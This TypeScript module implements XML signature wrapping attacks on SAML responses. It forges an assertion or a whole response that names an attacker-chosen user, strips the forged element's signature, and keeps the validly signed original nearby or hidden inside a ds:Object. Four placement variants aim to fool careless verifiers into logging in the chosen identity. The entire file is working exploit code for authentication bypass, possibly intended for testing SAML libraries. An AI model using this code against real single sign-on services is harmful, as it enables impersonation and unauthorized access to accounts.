import { DOMParser, XMLSerializer } from "@xmldom/xmldom";

/**
 * Signature wrapping: the signed part stays in the document, so that its signature is good, while a
 * forged assertion stands where a careless reader looks.
 * `sibling-before` and `sibling-after` put it beside the signed assertion, `inside-object` hides the signed assertion
 * in the forged one's signature, `new-response` hides the whole signed response in a forged response.
 */
export type WrapAttack = "sibling-before" | "sibling-after" | "inside-object" | "new-response";

const SIGNATURE_NS = "http://www.w3.org/2000/09/xmldsig#";

function forge(original: Element, as: string): Element {
  const forged = original.cloneNode(true) as Element;
  forged.setAttribute("ID", "_forged");
  for (const signature of Array.from(forged.getElementsByTagNameNS(SIGNATURE_NS, "Signature")))
    signature.parentNode?.removeChild(signature);
  const nameId = Array.from(forged.getElementsByTagName("*")).find((element) => element.localName === "NameID");
  if (nameId) nameId.textContent = as;
  return forged;
}

function hideInSignature(document: Document, outer: Element, signed: Element): void {
  const signature = Array.from(signed.childNodes).find((node) => (node as Element).localName === "Signature");
  if (!signature) throw new Error("There is no signature to wrap");
  const moved = signature.cloneNode(true) as Element;
  const holder = document.createElementNS(SIGNATURE_NS, "ds:Object");
  holder.appendChild(signed);
  moved.appendChild(holder);
  outer.insertBefore(moved, outer.childNodes.item(1));
}

/** Forges a signed response so that `as` is the one who signs in, if the reader is fooled. */
export function wrapSignature(xml: string, attack: WrapAttack, as: string): string {
  const document = new DOMParser().parseFromString(xml, "text/xml");
  const response = document.documentElement;
  const assertion = Array.from(response.childNodes).find((node) => (node as Element).localName === "Assertion") as
    | Element
    | undefined;
  if (!assertion) throw new Error("There is no assertion to wrap");
  if (attack === "new-response") {
    const forged = forge(response, as);
    document.replaceChild(forged, response);
    hideInSignature(document, forged, response);
  } else {
    const forged = forge(assertion, as);
    if (attack === "sibling-before") response.insertBefore(forged, assertion);
    else if (attack === "sibling-after") response.appendChild(forged);
    else {
      response.replaceChild(forged, assertion);
      hideInSignature(document, forged, assertion);
    }
  }
  return new XMLSerializer().serializeToString(document);
}
